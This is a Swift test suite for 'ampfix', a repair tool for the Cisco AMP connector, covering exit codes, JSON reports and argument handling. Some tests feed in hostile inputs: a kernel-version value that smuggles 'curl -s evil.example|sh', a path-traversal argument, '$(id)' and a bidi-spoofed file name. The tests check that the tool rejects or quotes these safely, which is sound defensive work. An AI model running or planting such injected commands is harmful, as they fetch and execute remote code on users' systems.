import AmpfixCore
import AmpfixSystem
import AmpfixTestSupport
import Foundation
import Glibc
import Testing

/// The command line as users script against it: exit codes, messages, JSON.
@Suite struct CommandLineTests {
    func report(_ result: CommandResult) throws -> Report {
        try JSONDecoder().decode(Report.self, from: Data(result.stdout.utf8))
    }

    @Test func usageErrorsExit64AndChangeNothing() throws {
        let sample = try SampleHost.build()
        let before = TreeSnapshot.take(sample.path)
        let cases: [[String]] = [
            ["--root", sample.path, "--fault", "99"],
            ["--root", sample.path, "--fault", "abc"],
            ["--root", sample.path, "--bogus"],
            ["--root", sample.path, "--all", "--fault", "5"],
            ["--root", "relative/dir"],
            ["--root", sample.path + "/does-not-exist"],
            ["--root", sample.path, "--verbose", "--quiet"],
            ["explain", "12"],
            ["undo", "--root", sample.path, "../../etc/passwd"],
            ["--root", sample.path, "--fault", "11", "--kernel", "../../../../tmp/X"],
            ["--root", sample.path, "--fault", "11", "--kernel", "9.9.9-x;curl -s evil.example|sh;#"],
        ]
        for arguments in cases {
            let result = try AmpfixBinary.run(arguments)
            #expect(result.status == 64, "\(arguments): \(result.stderr)")
            #expect(result.stderr.contains("Error:") || result.stderr.contains("error:"), "\(arguments)")
            #expect(!result.stderr.contains("Fatal error") && !result.stderr.contains("Stack dump"), "\(arguments)")
        }
        let badFault = try AmpfixBinary.run(["--root", sample.path, "--fault", "99"])
        #expect(badFault.stderr.contains("The value '99' is invalid for '--fault <N>'"), "\(badFault.stderr)")
        for id in FaultID.allCases {
            #expect(badFault.stderr.contains("  - \(id)\n"), "the message names valid id \(id)")
        }
        // A lock time-out that is not a number of seconds is named with its reason.
        for (value, reason) in [("nan", "--lock-timeout nan: must be a number of seconds"), ("-5", "--lock-timeout -5.0: must not be negative")] {
            let result = try AmpfixBinary.run(["--root", sample.path, "--lock-timeout", value])
            #expect(result.status == 64, "\(value): \(result.stderr)")
            #expect(result.stderr.contains(reason), "\(value): \(result.stderr)")
        }
        #expect(TreeSnapshot.take(sample.path) == before)
    }

    @Test func diagnosisOfTheSampleExits1AndNamesTheEvidence() throws {
        let sample = try SampleHost.build()
        let result = try AmpfixBinary.run(["--root", sample.path])
        #expect(result.status == 1, "\(result.stderr)")
        #expect(result.stdout.contains("/opt/cisco/amp: mode 0700"))
        #expect(result.stdout.contains("/opt/cisco/amp/lib/planted: symbolic link, not followed"))
        #expect(result.stdout.contains("Repair with: ampfix --root \(sample.path) --fault 5"))
    }

    /// Every command ampfix prints is quoted word by word: a root (or package, store, path)
    /// with a space, a semicolon or a quote in it runs as printed and nothing else. Before, the
    /// "Repair with:" line of a root named `a b;touch X` ran `touch X`.
    @Test func aPrintedCommandRunsWhatItSays() throws {
        let parent = TempRoot("quoted")
        let marker = parent.at("ran")
        let root = parent.at("a b;touch \(marker);c'd")
        let built = try Command.run(try #require(Programs.locate("bash")), [PackageLayout.root + "/scripts/sample-host.sh", root])
        try #require(built.status == 0, "\(built.stderr)")
        let result = try AmpfixBinary.run(["--root", root])
        #expect(result.status == 1, "\(result.stderr)")
        let line = try #require(result.stdout.split(separator: "\n").first { $0.contains("Repair with: ") })
        let command = try #require(line.components(separatedBy: "Repair with: ").last?.components(separatedBy: " (preview").first)
        #expect(command.hasPrefix("ampfix --root "), "\(command)")
        let sh = try #require(Programs.locate("sh"))
        let run = try Command.run(sh, ["-c", AmpfixBinary.path + command.dropFirst("ampfix".count) + " --dry-run --json"])
        #expect(run.status == 0 || run.status == 1, "\(command): \(run.stderr)")
        #expect(try report(run).root == root, "\(run.stdout.prefix(400))")
        #expect(access(marker, F_OK) != 0, "the printed command ran something else")
        // Words come back from a shell as they went in.
        let words = ["apt-get", "install", "-y", "linux-headers-9.9.9-x;curl -s evil.example|sh;#", "it's", "", "$(id)", "plain-1.2_3"]
        let echoed = try Command.run(sh, ["-c", "printf '%s\\n' " + ShellCommand.line(words)])
        #expect(echoed.stdout == words.map { $0 + "\n" }.joined(), "\(ShellCommand.line(words))")
        #expect(ShellCommand.line(["dnf", "install", "-y", "kernel-devel-5.14.0"]) == "dnf install -y kernel-devel-5.14.0")
    }

    /// An argument that is not UTF-8 was read with its bytes replaced (U+FFFD): `-o` wrote the
    /// bundle under another name. It is refused, naming its bytes, and nothing is written.
    @Test func anArgumentThatIsNotUTF8IsRefusedAndNothingIsWritten() throws {
        let sample = try SampleHost.build()
        let out = TempRoot("latin1")
        let sh = try #require(Programs.locate("sh"))
        for option in ["-o", "--prometheus"] {
            let subcommand = option == "-o" ? "collect" : "check"
            let result = try Command.run(sh, ["-c", "exec \"$0\" \"$1\" --root \"$2\" \"$3\" \"$(printf '%s/r\\351sum\\377' \"$4\")\"",
                                              AmpfixBinary.path, subcommand, sample.path, option, out.path])
            #expect(result.status == (subcommand == "check" ? 3 : 64), "\(option): \(result.stdout)\(result.stderr)")
            #expect((result.stdout + result.stderr).contains("r\\xe9sum\\xff) is not valid UTF-8"), "\(option): \(result.stdout)\(result.stderr)")
            #expect(try FileManager.default.contentsOfDirectory(atPath: out.path).isEmpty, "\(option): nothing written")
        }
    }

    @Test func jsonReportIsVersionedAndHonestAboutUnwrittenChecks() throws {
        let sample = try SampleHost.build()
        let result = try AmpfixBinary.run(["--root", sample.path, "--json"])
        #expect(result.status == 1)
        let parsed = try report(result)
        #expect(parsed.schema == "ampfix.report/3")
        #expect(parsed.mode == .diagnose)
        #expect(parsed.faults.map(\.id) == FaultID.allCases.map(\.rawValue))
        #expect(Set([5, 6, 7, 8, 9, 11, 16, 18, 19]).isSubset(of: parsed.faults.map(\.id)))
        #expect(parsed.faults[0].status == .present)
        #expect(parsed.faults[0].repairable)
        // The sample has an enforcing SELinux store without the module, but no module file was named.
        let nineteen = try #require(parsed.faults.first { $0.id == 19 })
        #expect(nineteen.status == .present)
        #expect(nineteen.evidence.contains { $0.contains("cannot repair: cannot read the module /usr/share/ampfix/policy/cisco-secure-bpf.cil") })
        // The sample's kernel has no BTF and no headers; no support table was named.
        #expect(parsed.faults.first { $0.id == 11 }?.status == .present)
        #expect(parsed.faults.first { $0.id == 16 }?.evidence.contains { $0.contains("cannot read the kernel support table") } == true)
        #expect(parsed.faults.first { $0.id == 8 }?.status == .present, "no ampfsm for the sample kernel")
        // No connector runs under --root and none was named (--ampcli): 6 is decided by the
        // sample's crash lines; 7 by its broken definitions; 18 (a running system's event load)
        // does not apply.
        let six = try #require(parsed.faults.first { $0.id == 6 })
        #expect(six.status == .present)
        #expect(six.evidence.contains("suspect file: /home/build/cache/huge-archive.zip (named at 2 crashes)"), "\(six.evidence)")
        #expect(six.raisedByConnector == .unknown && !six.manualSteps.isEmpty)
        #expect(six.evidence.contains { $0.hasPrefix("raised by the connector: unknown (no connector runs under --root") })
        let seven = try #require(parsed.faults.first { $0.id == 7 })
        #expect(seven.status == .present)
        #expect(seven.evidence.contains { $0.contains("bytecode.cvd") && $0.contains("INVALID: the body's MD5 is") })
        #expect(parsed.faults.first { $0.id == 18 }?.status == .notApplicable)
    }

    /// ampfix.report/3 keeps every field of /1 and /2 with its meaning and adds each line's
    /// message: its id and arguments render to the very line beside it.
    @Test func reportThreeKeepsTheEarlierFieldsAndAddsTheMessages() throws {
        let sample = try SampleHost.build()
        let result = try AmpfixBinary.run(["--root", sample.path, "--json"])
        let object = try #require(try JSONSerialization.jsonObject(with: Data(result.stdout.utf8)) as? [String: Any])
        let reportOne = ["schema", "tool", "version", "mode", "root", "language", "recovered", "faults", "exitCode"]
        #expect(reportOne.allSatisfy { object[$0] != nil }, "\(object.keys.sorted())")
        #expect(object["recoveredMessages"] != nil, "/3: \(object.keys.sorted())")
        let faults = try #require(object["faults"] as? [[String: Any]])
        for fault in faults {
            let keys = ["id", "title", "status", "repairable", "evidence", "actions", "manualSteps", "evidenceMessages", "manualStepMessages"]
            #expect(keys.allSatisfy { fault[$0] != nil }, "\(fault.keys.sorted())")
        }
        let parsed = try report(result)
        for fault in parsed.faults {
            #expect(fault.evidenceMessages.map(\.description) == fault.evidence)
            #expect(fault.manualStepMessages.map(\.description) == fault.manualSteps)
        }
        let five = try #require(parsed.faults.first)
        #expect(five.evidenceMessages.contains(Message(id: "user %1$s missing from %2$s", arguments: [.text("cisco-amp-scan-svc"), .text(AccountDatabase.passwdPath)])),
                "\(five.evidenceMessages)")
        // A reader of /1 reads a /3 report; ampfix reads a /1 report (no messages) too.
        var one = object
        one["schema"] = "ampfix.report/1"
        one["recoveredMessages"] = nil
        one["faults"] = faults.map { $0.filter { !["evidenceMessages", "manualStepMessages"].contains($0.key) } }
        let old = try JSONDecoder().decode(Report.self, from: try JSONSerialization.data(withJSONObject: one))
        #expect(old.faults.map(\.evidence) == parsed.faults.map(\.evidence) && old.faults.allSatisfy { $0.evidenceMessages.isEmpty })
    }

    @Test func unknownOnlyExits2() throws {
        let sample = try SampleHost.build()
        // Without logs (and no connector to ask, no systemd under --root) fault 6 has nothing to go by.
        try FileManager.default.removeItem(atPath: sample.at("var/log/cisco"))
        let result = try AmpfixBinary.run(["--root", sample.path, "--fault", "6", "--json"])
        #expect(result.status == 2, "\(result.stderr)")
        let parsed = try report(result)
        #expect(parsed.faults.map(\.status) == [.unknown])
        #expect(parsed.faults[0].evidence.last == "ampfix has no check of its own for fault 6 here")
    }

    @Test func listAndExplainInBothLanguages() throws {
        let list = try AmpfixBinary.run(["list"])
        #expect(list.status == 0)
        let listed = list.stdout.split(separator: "\n").map { $0.prefix { $0 != " " } }
        #expect(listed.map(String.init) == FaultID.allCases.map(\.description))
        let english = try AmpfixBinary.run(["explain", "19"])
        #expect(english.status == 0 && english.stdout.contains("Fault 19: SELinux policy module missing or disabled"))
        // The fault catalog's Chinese is in po/zh_CN.po, as every other word.
        if Programs.locate("msgfmt") != nil {
            let catalogs = try TranslationTests.compiledCatalogs()
            defer { withExtendedLifetime(catalogs) {} }
            let locale = ["AMPFIX_LOCALEDIR": catalogs.path]
            let chinese = try AmpfixBinary.run(["explain", "19", "--lang", "zh"], environment: locale)
            #expect(chinese.stdout.contains("SELinux 策略模块缺失或被禁用"), "\(chinese.stdout)")
            let fromLocale = try AmpfixBinary.run(["explain", "5"], environment: locale.merging(["LANG": "zh_CN.UTF-8"]) { $1 })
            #expect(fromLocale.stdout.contains("扫描服务用户不可用"), "\(fromLocale.stdout)")
        } else {
            print("skipped: explain in Chinese (no msgfmt to compile the catalog)")
        }
        let json = try AmpfixBinary.run(["explain", "11", "--json"])
        let entry = try JSONDecoder().decode(CatalogEntry.self, from: Data(json.stdout.utf8))
        #expect(entry.id == .kernelHeadersMissing)
    }

    @Test func helpDocumentsTheExitCodes() throws {
        let help = try AmpfixBinary.run(["--help"])
        #expect(help.status == 0)
        for line in ["0   no selected fault is present", "1   a fault remains present", "2   a fault could not be evaluated", "64  usage error"] {
            #expect(help.stdout.contains(line), "\(line)")
        }
        let manual = try String(contentsOfFile: PackageLayout.root + "/packaging/ampfix.8", encoding: .utf8)
        for (code, meaning) in [("0", "no selected fault is present"), ("1", "a fault remains present"), ("2", "a fault could not be evaluated"), ("64", "usage error")] {
            #expect(manual.contains(".B \(code)\n\(meaning)"), "man page documents exit \(code)")
        }
        // The page names no fault list of its own, which a new fault would make stale: it points at `ampfix list`.
        #expect(manual.contains("every connector fault it knows (\\fBampfix list\\fR names them)") && !manual.contains(FaultID.validList))
        #expect(help.stdout.contains("Faults: \(FaultID.validList) "), "--help names every fault ampfix knows")
    }
}

/// A mounted image is often read-only: it can still be diagnosed.
@Suite struct ReadOnlyRootTests {
    /// Whether this machine lets the tests make read-only bind mounts (root in a sandbox that
    /// allows them, as here and in CI). Where it does not, the test shows as skipped, not passed.
    static let canMountReadOnly: Bool = {
        let (source, target) = (TempRoot("probe-src"), TempRoot("probe-dst"))
        guard (try? Command.run("/bin/mount", ["--bind", source.path, target.path]))?.status == 0 else { return false }
        defer { _ = try? Command.run("/bin/umount", [target.path]) }
        guard (try? Command.run("/bin/mount", ["-o", "remount,ro,bind", target.path]))?.status == 0 else { return false }
        return access(target.path, W_OK) != 0
    }()

    @Test(.enabled(if: canMountReadOnly, "needs read-only bind mounts"))
    func aReadOnlyRootIsDiagnosedWithoutALockFile() throws {
        let sample = try SampleHost.build()
        let mountPoint = TempRoot("ro")
        try #require(try Command.run("/bin/mount", ["--bind", sample.path, mountPoint.path]).status == 0)
        defer { _ = try? Command.run("/bin/umount", [mountPoint.path]) }
        try #require(try Command.run("/bin/mount", ["-o", "remount,ro,bind", mountPoint.path]).status == 0)
        try #require(access(mountPoint.at("etc"), W_OK) != 0, "the bind mount is read-only")

        let result = try AmpfixBinary.run(["--root", mountPoint.path, "--json"])
        #expect(result.status == 1, "\(result.stderr)")
        #expect(result.stderr.contains("is read-only: diagnosing without taking the run lock"))
        let report = try JSONDecoder().decode(Report.self, from: Data(result.stdout.utf8))
        #expect(report.faults[0].status == .present)
        #expect(!FileManager.default.fileExists(atPath: sample.at("run/ampfix.lock")))

        let repair = try AmpfixBinary.run(["--root", mountPoint.path, "--fault", "5"])
        #expect(repair.status == 2, "a repair on a read-only root is a runtime error: \(repair.stderr)")
        #expect(repair.stderr.contains("Read-only file system"))
    }
}

/// A run reads the data only the asked faults use.
@Suite struct DataPerFaultTests {
    @Test(.enabled(if: FileManager.default.isExecutableFile(atPath: "/usr/bin/strace"), "needs strace (scripts/deps.sh installs it)"))
    func aRunOfOtherFaultsNeverOpensFault19sModuleNorFault16sTable() throws {
        let sample = try SampleHost.build()
        let data = TempRoot("data-per-fault")
        try data.write("module.cil", try String(contentsOfFile: PackageLayout.policyModule, encoding: .utf8))
        try data.write("support.tsv", try String(contentsOfFile: PackageLayout.root + "/data/kernel-support.tsv", encoding: .utf8))
        func opened(_ faults: [String]) throws -> String {
            let log = data.at("strace-\(faults.joined(separator: "-")).log")
            let arguments = ["--root", sample.path, "--policy-module", data.at("module.cil"), "--kernel-support", data.at("support.tsv"), "--dry-run"]
                + faults.flatMap { ["--fault", $0] }
            let result = try Command.run("/usr/bin/strace", ["-f", "-qq", "-e", "trace=openat,open", "-o", log, AmpfixBinary.path] + arguments)
            #expect([0, 1].contains(result.status), "\(result.stderr)")
            return try String(contentsOfFile: log, encoding: .utf8)
        }
        let seven = try opened(["7"])
        #expect(!seven.contains("module.cil") && !seven.contains("support.tsv"), "a run of fault 7 read the others' data")
        let both = try opened(["16", "19"])
        #expect(both.contains("module.cil") && both.contains("support.tsv"), "the trace sees the reads when they happen")
    }
}

/// A chroot or image build often has no /proc: the arguments must not depend on it.
@Suite struct WithoutProcTests {
    /// Whether this machine lets the tests unmount /proc in a private mount namespace (root,
    /// as here and in CI). Where it does not, the test shows as skipped, not passed.
    static let canHideProc: Bool = {
        let probe = try? Command.run("/usr/bin/unshare", ["-m", "/bin/sh", "-c", "umount -l /proc && test ! -e /proc/self"])
        return probe?.status == 0
    }()

    func withoutProc(_ arguments: [String]) throws -> CommandResult {
        let quoted = ([AmpfixBinary.path] + arguments).map { "'" + $0 + "'" }.joined(separator: " ")
        return try Command.run("/usr/bin/unshare", ["-m", "/bin/sh", "-c", "umount -l /proc && test ! -e /proc/self && exec \(quoted)"])
    }

    @Test(.enabled(if: canHideProc, "needs root to unmount /proc in a private mount namespace"))
    func theArgumentsArriveWithoutProc() throws {
        let list = try AmpfixBinary.run(["list"])
        let hidden = try withoutProc(["list"])
        #expect(hidden.status == 0, "\(hidden.stderr)")
        #expect(hidden.stdout == list.stdout)
        #expect(!hidden.stdout.contains("Diagnosis of"), "not a plain diagnosis of /")

        let usage = try withoutProc(["--fault", "99"])
        #expect(usage.status == 64, "\(usage.stderr)")
        let version = try withoutProc(["--version"])
        #expect(version.stdout.trimming() == AmpfixVersion.current)

        // --lang arrived: the Chinese catalog it asks for is looked for (and not installed here).
        let explain = try withoutProc(["explain", "19", "--lang", "zh"])
        #expect(explain.status == 0 && explain.stderr.contains("no zh_CN catalog"), "\(explain.stdout)\(explain.stderr)")
    }

    /// A repair's journal records the command that made it, /proc or not.
    @Test(.enabled(if: canHideProc, "needs root to unmount /proc in a private mount namespace"))
    func theJournalRecordsTheCommandWithoutProc() throws {
        let sample = try SampleHost.build()
        let arguments = ["--root", sample.path, "--fault", "5", "--no-restart", "--json"]
        let repair = try withoutProc(arguments)
        #expect(repair.status == 0, "\(repair.stderr)")
        let report = try JSONDecoder().decode(Report.self, from: Data(repair.stdout.utf8))
        let journal = try #require(report.journal)
        let begin = try #require(try String(contentsOfFile: journal, encoding: .utf8).split(separator: "\n").first)
        let record = try #require(try JSONSerialization.jsonObject(with: Data(begin.utf8)) as? [String: Any])
        #expect(record["command"] as? [String] == [AmpfixBinary.path] + arguments, "\(begin)")
    }
}

/// Smaller refusals and odd corners of the command line.
@Suite struct SmallRefusalTests {
    /// Smaller refusals: each a usage error that names what is wrong, and
    /// changes nothing.
    @Test func oddValuesAreUsageErrorsThatSaySo() throws {
        let sample = try SampleHost.build()
        let before = TreeSnapshot.take(sample.path)
        let out = TempRoot("collect")
        let cases: [([String], String)] = [
            (["--root", sample.path, "--fault", "-5"], "The value '-5' is invalid for '--fault <N>'"),
            (["--root", sample.path, "--all", "--wait", "-1"], "The value '-1' is invalid for '--wait <DURATION>'"),
            (["sample", "--seconds", "-1"], "--seconds must be more than 0"),
            (["sample", "--root", sample.path], "--root: ampfix sample counts the live host's events"),
            (["sample", "--fault", "5"], "--fault: ampfix sample"),
            (["package", "", "--root", sample.path], "'' is not a package name"),
            (["--root", sample.path, "--kernel-support", ""], "--kernel-support '': name a file"),
            (["collect", "--root", sample.path, "-o", out.at("a.tgz"), "-o", out.at("b.tgz")], "--output is given 2 times"),
        ]
        for (arguments, message) in cases {
            let result = try AmpfixBinary.run(arguments)
            #expect(result.status == 64, "\(arguments): \(result.status) \(result.stderr)")
            #expect(result.stderr.contains(message), "\(arguments): \(result.stderr)")
            #expect(!result.stderr.contains("Missing value"), "\(arguments)")
        }
        #expect(TreeSnapshot.take(sample.path) == before)
        #expect(try FileManager.default.contentsOfDirectory(atPath: out.path).isEmpty, "no bundle was written")
    }

    /// A repair of faults ampfix only explains creates nothing, not even the lock file; the
    /// journal listing speaks JSON when asked.
    @Test func explainOnlyFaultsCreateNoLockAndTheListingSpeaksJSON() throws {
        let sample = try SampleHost.build()
        let before = TreeSnapshot.take(sample.path)
        let result = try AmpfixBinary.run(["--root", sample.path, "--fault", "16", "--kernel-support", PackageLayout.root + "/data/kernel-support.tsv", "--json"])
        #expect(result.status != 64 && result.status != 2, "\(result.stderr)")
        #expect(try JSONDecoder().decode(Report.self, from: Data(result.stdout.utf8)).mode == .repair)
        #expect(TreeSnapshot.take(sample.path) == before, "nothing created in the root")
        let listing = try AmpfixBinary.run(["undo", "--list", "--json", "--root", sample.path])
        #expect(listing.status == 0)
        let parsed = try JSONDecoder().decode([String: [String]].self, from: Data(listing.stdout.utf8))
        #expect(parsed["runs"] == [])
    }

    /// Bidirectional controls from the host reorder what a terminal shows: escaped like the
    /// other control characters.
    @Test func bidiControlsAreEscaped() {
        #expect("evil\u{202E}gol.txt".escapingControlCharacters() == "evil\\u{202e}gol.txt")
        #expect("a\u{2066}b\u{200F}c".escapingControlCharacters() == "a\\u{2066}b\\u{200f}c")
        #expect("café".escapingControlCharacters() == "café")
    }
}
